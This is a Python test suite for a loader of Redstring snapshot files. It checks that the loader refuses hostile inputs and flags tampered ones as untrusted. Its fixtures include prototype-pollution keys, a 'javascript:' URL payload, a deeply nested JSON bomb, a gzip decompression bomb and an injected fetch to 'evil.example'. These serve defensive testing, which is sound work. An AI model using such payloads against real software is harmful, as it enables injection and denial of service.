"""Files that somebody gave us: whatever is wrong with one is told in words that name it, and a status that does not follow is found."""

from __future__ import annotations

import gzip
import json
import re
import time
import zlib
from base64 import b64encode
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from graph.errors import SnapshotError
from graph.model import Status
from graph.snapshot.canonical import canonical_json
from graph.snapshot.received import Received, received, received_file

KEPT = Path(__file__).parent / "kept"
HTML, JSON = KEPT / "version-1.html", KEPT / "version-1.redstring.json"
Change = Callable[[dict[str, Any]], None]


def content() -> dict[str, Any]:
    found: dict[str, Any] = json.loads(JSON.read_bytes())
    return found


def with_content(packed: str) -> bytes:
    """The kept file with another content."""
    whole = HTML.read_text("utf-8")
    return re.sub(r'(id="redstring-content">).*?(</script>)', lambda found: found[1] + packed + found[2], whole, flags=re.S).encode()


def packed(data: bytes) -> str:
    return b64encode(gzip.compress(data)).decode()


def changed(change: Change) -> bytes:
    """The kept content with something done to it."""
    found = content()
    change(found)
    return json.dumps(found).encode()


def test_files_of_version_1_are_taken_and_speak_the_truth() -> None:
    for path in (HTML, JSON):
        file = received_file(path)
        assert (file.lies, file.trusted) == ((), True)
    assert received_file(HTML).fingerprint == received_file(JSON).fingerprint


def nested(depth: int) -> bytes:
    return b'{"redstring":"snapshot","version":1,"view":' + b'{"a":' * depth + b"1" + b"}" * depth + b"}"


def future(found: dict[str, Any]) -> None:
    found["version"] = 2


def prototype(found: dict[str, Any]) -> None:
    found["__proto__"] = {"title": "polluted"}


def constructor(found: dict[str, Any]) -> None:
    found["entities"][0]["constructor"] = {"prototype": {"x": 1}}


def stranger(found: dict[str, Any]) -> None:
    found["claims"][0]["statement"] = "nothing-of-that-name"


def unheard(found: dict[str, Any]) -> None:
    found["claims"][0]["chain"] = ["outlet:nobody"]


def unplaced(found: dict[str, Any]) -> None:
    found["statements"][0]["subject"] = "person:nobody"


def double(found: dict[str, Any]) -> None:
    found["entities"].append(found["entities"][0])


def elsewhere(found: dict[str, Any]) -> None:
    found["entities"][0]["case"] = "another"


def scripted(found: dict[str, Any]) -> None:
    found["sources"][0]["url"] = "javascript:alert(1)"


def endless(found: dict[str, Any]) -> None:
    found["entities"][0]["name"] = "x" * 1_000_001


def blind(found: dict[str, Any]) -> None:
    found["view"]["positions"] = {}


def far(found: dict[str, Any]) -> None:
    found["view"]["positions"][found["view"]["nodes"][0]] = [1e400, 0]


def crowded(found: dict[str, Any]) -> None:
    ids = [f"x/person:{number}" for number in range(5_001)]
    found["view"] |= {"nodes": ids, "positions": {key: [0, 0] for key in ids}}


def unknown(found: dict[str, Any]) -> None:
    found["findings"]["made-up"] = {"status": "confirmed", "rank": 5, "why": "because"}


def invented(found: dict[str, Any]) -> None:
    next(iter(found["findings"].values()))["status"] = "proven"


def banner(found: dict[str, Any]) -> None:
    found["about"]["banner"] = "All of this is proven."


def listed(found: dict[str, Any]) -> None:
    found["entities"] = {"person:a": {}}


HOSTILE: list[tuple[str, bytes, str]] = [
    ("empty.html", b"", "no snapshot of Redstring"),
    ("page.html", b"<!doctype html><p>hello</p>", "no snapshot of Redstring"),
    ("picture.html", b"\x89PNG\r\n\x1a\n\0\0", "not UTF-8 text"),
    ("wide.html", HTML.read_text("utf-8").encode("utf-16"), "not UTF-8 text"),
    ("latin.json", '{"redstring": "é"}'.encode("latin-1"), "not UTF-8 text"),
    ("list.json", b"[1, 2]", "no snapshot of Redstring"),
    ("cut.json", JSON.read_bytes()[:-200], "no snapshot of version 1"),
    ("other.json", b'{"nodes": [], "edges": []}', "no snapshot of version 1"),
    ("deep.json", nested(200_000), "nested too deep|recursion"),
    ("twice.json", b'{"version": 1, ' + JSON.read_bytes()[1:], "'version' stands twice"),
    ("future.json", changed(future), "of version 2, this program reads 1"),
    ("future.html", HTML.read_bytes().replace(b'"version":1}', b'"version":2}'), "of version 2, this program reads 1"),
    ("proto.json", changed(prototype), "__proto__"),
    ("constructor.json", changed(constructor), "constructor"),
    ("statement.json", changed(stranger), "names .*nothing-of-that-name, which is not in it"),
    ("voice.json", changed(unheard), "names .*outlet:nobody, which is not in it"),
    ("entity.json", changed(unplaced), "names .*person:nobody, which is not in it"),
    ("double.json", changed(double), "stands twice among its entities"),
    ("elsewhere.json", changed(elsewhere), "is of another case"),
    ("script.json", changed(scripted), "http:// or https://"),
    ("endless.json", changed(endless), "at most 100000 characters"),
    ("blind.json", changed(blind), "no position to be drawn at"),
    ("far.json", changed(far), "finite|view"),
    ("crowded.json", changed(crowded), "at most 5,000 entities"),
    ("unknown.json", changed(unknown), "tells a status of made-up"),
    ("invented.json", changed(invented), "findings"),
    ("banner.json", changed(banner), "about.banner"),
    ("listed.json", changed(listed), "entities"),
    ("base64.html", with_content("&&&not base64&&&"), "cannot be unpacked"),
    ("gzip.html", with_content(b64encode(b"not gzip at all").decode()), "cannot be unpacked"),
    ("cutoff.html", with_content(b64encode(gzip.compress(JSON.read_bytes())[:-20]).decode()), "cut off"),
    ("tail.html", with_content(b64encode(gzip.compress(JSON.read_bytes()) + b"more").decode()), "put behind it"),
    ("manifest.html", re.sub(rb'("made":")', rb'"x":1,\1', HTML.read_bytes(), count=1), "manifest cannot be read"),
    ("cutout.html", HTML.read_bytes().replace(b'id="redstring-content"', b'id="redstring-gone"'), "content was cut out"),
    ("compared.html", b'<script type="application/gzip" id="redstring-comparison">x</script>', "a comparison of two snapshots"),
]


@pytest.mark.parametrize(("name", "data", "said"), HOSTILE, ids=[name for name, _, _ in HOSTILE])
def test_a_hostile_file_is_refused_in_words_that_name_it(name: str, data: bytes, said: str) -> None:
    with pytest.raises(SnapshotError, match=said) as caught:
        received(name, data)
    assert str(caught.value).startswith(f"{name} cannot be taken: ")
    assert len(str(caught.value)) < 1_500


def test_a_bomb_is_not_unpacked() -> None:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(packer.compress(b" " * 10_000_000) for _ in range(21)) + packer.flush()
    assert len(bomb) < 300_000
    with pytest.raises(SnapshotError, match="larger than 200 MB unpacked"):
        received("bomb.html", with_content(b64encode(bomb).decode()))


def test_a_file_beyond_the_limit_is_not_read(tmp_path: Path) -> None:
    path = tmp_path / "large.html"
    with path.open("wb") as file:
        file.truncate(50_000_001)
    with pytest.raises(SnapshotError, match="larger than 50 MB"):
        received_file(path)
    with pytest.raises(SnapshotError, match="larger than 50 MB"):
        received("large.html", bytes(50_000_001))


def test_a_byte_order_mark_is_no_fault() -> None:
    assert received("mark.json", b"\xef\xbb\xbf" + JSON.read_bytes()).trusted


# What can be taken, but not believed ------------------------------------------------------------------------------------------


def test_a_wrong_hash_is_told_and_the_file_still_read() -> None:
    forged = content()
    forged["about"]["title"] = "Proven"
    file = received("forged.html", with_content(packed(canonical_json(forged))))
    assert file.verification is not None
    assert file.verification.changed == ("content",)
    assert (file.content.about.title, file.trusted) == ("Proven", False)


def test_changed_scripts_are_told_and_the_content_still_read() -> None:
    data = HTML.read_bytes().replace(b"const module_loader", b"fetch('https://evil.example');const module_loader", 1)
    file = received("scripts.html", data)
    assert file.verification is not None
    assert file.verification.changed == ("code",)
    assert not file.trusted


def lying(change: Change) -> Received:
    return received("lying.json", changed(change))


def firmer(found: dict[str, Any]) -> None:
    finding = found["findings"][next(name for name, one in found["findings"].items() if one["status"] != "confirmed")]
    finding |= {"status": "confirmed", "rank": 5}


def test_a_status_that_does_not_follow_from_the_claims_is_found() -> None:
    file = lying(firmer)
    assert (file.lies[0].told, file.trusted) == (Status.confirmed, False)
    assert file.lies[0].follows != Status.confirmed
    assert {"status", "rank"} <= set(file.lies[0].figures)


def test_a_figure_that_does_not_follow_is_found() -> None:
    def more(found: dict[str, Any]) -> None:
        next(iter(found["findings"].values()))["asserts"] = 99

    (lie,) = lying(more).lies
    assert (lie.figures, lie.told) == (("asserts",), lie.follows)


def test_a_claim_left_out_of_a_file_shows_in_its_findings() -> None:
    def silenced(found: dict[str, Any]) -> None:
        found["claims"] = [claim for claim in found["claims"] if claim.get("stance", "asserts") != "denies"]

    before = received_file(JSON)
    if not any(claim.stance == "denies" for claim in before.content.claims):
        pytest.skip("the kept file holds no denial")
    assert lying(silenced).lies


def test_a_history_that_does_not_follow_is_found() -> None:
    def rewritten(found: dict[str, Any]) -> None:
        told = next(one for one in found["findings"].values() if one.get("history"))
        told["history"][0]["status"] = "confirmed" if told["history"][0]["status"] != "confirmed" else "denied"

    (lie,) = lying(rewritten).lies
    assert lie.figures == ("history",)


def test_a_history_made_to_take_hours_is_not_computed_again_and_that_is_said() -> None:
    def endless(found: dict[str, Any]) -> None:
        days = [f"{year}-{month:02}-{day:02}" for year in range(2000, 2009) for month in range(1, 13) for day in range(1, 29)][:3_000]
        publisher = found["sources"][0]["publisher"]
        case = found["case"]["case"]
        found["sources"] += [{"case": case, "key": f"src:d{day}", "publisher": publisher, "published": day} for day in days]
        said = {"case": case, "statement": "nick-name", "chain": [publisher]}
        found["claims"] += [{**said, "key": f"c-d{day}", "source": f"src:d{day}"} for day in days]

    began = time.monotonic()
    file = lying(endless)
    assert time.monotonic() - began < 20
    assert (file.dated, file.lies[0].name) == (False, "nick-name")
    assert received_file(JSON).dated
